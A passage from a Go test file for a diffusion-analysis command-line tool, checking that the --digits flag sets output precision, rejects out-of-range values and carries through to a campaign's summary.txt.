		{[]string{"matano", goldenDir + "/couple-NiCu.csv", "--resamples", "-1"}, "4.04 × 10⁻¹⁵", "4.04054 × 10⁻¹⁵"},
	} {
		_, def, _ := runCLI(t, tc.args...)
		code, wider, stderr := runCLI(t, append(tc.args, "--digits", "6")...)
		if code != 0 || !strings.Contains(def, tc.def) || !strings.Contains(wider, tc.wider) {
			t.Errorf("%s: exit %d %s; default has %q: %v; --digits 6 has %q: %v", tc.args[0], code, stderr,
				tc.def, strings.Contains(def, tc.def), tc.wider, strings.Contains(wider, tc.wider))
		}
	}
	for _, bad := range []string{"0", "16"} {
		code, _, stderr := runCLI(t, "reference", "--digits", bad)
		if code != exitBadInput || !strings.Contains(stderr, "--digits "+bad+": give 1 to 15") {
			t.Errorf("--digits %s: exit %d, %s", bad, code, stderr)
		}
	}
	// The campaign's summary.txt follows --digits too.
	dir := t.TempDir()
	coupons := copyCoupons(t, dir)
	mustDo(t, os.Remove(filepath.Join(coupons, "F7-2291-940-1.csv"))) // two temperatures: D0 without interval
	code, _, stderr := runCLI(t, campaignArgs(coupons, filepath.Join(dir, "R"), "--digits", "7")...)
	if code != 0 {
		t.Fatalf("campaign: exit %d: %s", code, stderr)
	}
	b, _ := os.ReadFile(filepath.Join(dir, "R", "summary.txt"))
	if !regexp.MustCompile(`D0 = [0-9]\.[0-9]{6} × 10⁻[⁰¹²³⁴⁵⁶⁷⁸⁹]+ m²/s \(no interval`).Match(b) {
		t.Errorf("summary.txt does not write D0 (no interval: two temperatures) with 7 digits:\n%.1500s", b)
	}
}
